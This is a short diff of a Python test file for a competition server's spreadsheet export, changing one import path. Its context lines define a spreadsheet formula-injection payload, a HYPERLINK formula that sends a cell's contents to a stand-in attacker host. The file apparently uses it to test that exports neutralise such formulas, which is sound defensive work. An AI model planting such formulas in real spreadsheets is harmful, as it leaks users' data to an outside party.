@@ -8,7 +8,7 @@ import io
 from openpyxl import load_workbook
 
 from server.competitions.tables import Competition
-from tests.server.helpers import token_for
+from tests.server.factories import token_for
 from tests.server.registration.support import make_competition, make_event
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
